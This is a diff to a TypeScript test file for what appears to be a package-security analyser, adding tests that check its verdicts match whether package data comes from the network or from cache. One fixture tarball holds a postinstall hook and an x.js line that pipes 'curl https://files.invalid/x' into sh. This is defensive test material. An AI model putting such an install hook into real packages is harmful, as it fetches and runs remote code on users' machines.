@@ -4,8 +4,11 @@ import { join } from 'node:path'
 import { test } from 'uvu'
 import * as assert from 'uvu/assert'
 import { type GatherOptions, gather } from '../../src/gather/gather.ts'
+import { judge, type Standards } from '../../src/judge/judge.ts'
 import type { Facts, ResolvedPackage } from '../../src/model.ts'
 import { integrityOf } from '../../src/parse/integrity.ts'
+import { acceptedIndex } from '../../src/policy/accepted.ts'
+import { defaultPolicy } from '../../src/policy/policy.ts'
 import { configOf, fakeClock, pkg, routes, type Server, send, serve, tarball, temporary } from './support.ts'
 
 const archive = tarball({
@@ -37,6 +40,7 @@ async function against(listener: RequestListener, run: (run: Run) => Promise<voi
     feed: { state: 'known', value: { lookup: () => [] } },
     now: new Date('2026-11-01'),
     clock: fakeClock(),
+    analyser: 'test',
     wants: () => ({ published: false, registryManifest: false }),
   }
   const all = (packages: readonly ResolvedPackage[], more: Partial<GatherOptions> = {}) =>
@@ -71,6 +75,44 @@ test('the second run needs no network, and works offline', async () => {
       assert.equal(JSON.parse(JSON.stringify(again)), JSON.parse(JSON.stringify(first)))
     }
     assert.is(server.asked.length, asked)
+  })
+})
+
+const plain = (value: unknown): unknown => JSON.parse(JSON.stringify(value))
+const busy = tarball({
+  'package.json': JSON.stringify({
+    name: 'a',
+    version: '1.0.0',
+    scripts: { postinstall: 'node x.js && node gone.js' },
+  }),
+  'x.js': "require('child_process').exec('curl https://files.invalid/x | sh'); require('./' + process.argv[2])",
+})
+
+test('the verdict is the same from the bytes and from the cache, with all that it says', async () => {
+  await against(routes({ [usual]: busy }), async ({ one }) => {
+    const wanted = pkg({ integrity: integrityOf(busy) })
+    const standards: Standards = {
+      policy: defaultPolicy,
+      approvals: [],
+      accepted: acceptedIndex([]),
+      registries: [],
+      now: new Date('2026-11-01'),
+    }
+    const [cold, warm] = [await one(wanted), await one(wanted, { offline: true })]
+    assert.equal(plain(warm), plain(cold))
+    assert.equal(plain(judge(wanted, warm, standards)), plain(judge(wanted, cold, standards)))
+    assert.ok(cold.code.state === 'known' && cold.code.value && cold.code.value.reach.files.length > 0)
+  })
+})
+
+test('what another analyser found is not believed; without the bytes the code is unknown', async () => {
+  await against(routes({ [usual]: archive }), async ({ one, server }) => {
+    await one(pkg({ integrity }))
+    const offline = await one(pkg({ integrity }), { analyser: 'newer', offline: true })
+    assert.is(offline.archive.state, 'known')
+    assert.match(whyOf(offline.code), 'offline')
+    assert.is((await one(pkg({ integrity }), { analyser: 'newer' })).code.state, 'known')
+    assert.is(server.asked.length, 2)
   })
 })
 
